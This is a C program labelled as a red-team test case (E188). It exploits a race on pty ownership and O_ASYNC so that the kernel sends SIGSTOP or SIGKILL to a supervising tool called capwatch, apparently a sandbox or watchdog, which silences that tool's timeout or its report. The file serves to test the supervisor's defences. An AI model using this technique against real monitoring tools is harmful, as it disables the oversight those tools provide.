/* E188 (red team 21): make capwatch the owner of a descriptor, so that
 * the signal the tree chose reaches capwatch (SIGSTOP: its --timeout
 * never fires; SIGKILL: no report).
 *
 * A pty this program makes has no session, so when O_ASYNC is turned on
 * for its master with no owner set, the kernel (tty_fasync) makes the
 * caller of that call the owner. capwatch turns O_ASYNC on itself, on its
 * duplicate, after making the tree's caller the owner. A thread here keeps
 * clearing the owner (F_SETOWN 0); the main thread turns O_ASYNC off (not
 * notified) and on again, and writes a byte to the slave whenever the
 * owner is not this process, which signals the owner.
 *
 * Usage: e188_async_owner_race SECONDS [SIGNAL]. Prints "ROUNDS n" when
 * it ran to its end. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static int master;
static volatile int stop;

static void *clearer(void *arg)
{
	(void)arg;
	while (!stop)
		fcntl(master, F_SETOWN, 0);
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	int secs = atoi(argv[1]);
	int sig = argc > 2 ? atoi(argv[2]) : SIGSTOP;
	master = posix_openpt(O_RDWR | O_NOCTTY);
	if (master < 0 || grantpt(master) || unlockpt(master))
		return 1;
	int slave = open(ptsname(master), O_RDWR | O_NOCTTY);
	if (slave < 0 || fcntl(master, F_SETSIG, sig) < 0) {
		perror("pty");
		return 1;
	}
	int fl = fcntl(master, F_GETFL) | O_NONBLOCK;
	pthread_t t;
	if (pthread_create(&t, NULL, clearer, NULL) != 0)
		return 1;
	time_t end = time(NULL) + secs;
	long rounds = 0;
	char buf[256];
	while (time(NULL) < end) {
		rounds++;
		fcntl(master, F_SETFL, fl);
		fcntl(master, F_SETFL, fl | O_ASYNC); /* refused or not, go on */
		if (fcntl(master, F_GETOWN) != getpid() && write(slave, "x", 1) < 0)
			break;
		while (read(master, buf, sizeof(buf)) > 0)
			;
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("ROUNDS %ld\n", rounds);
	return 0;
}
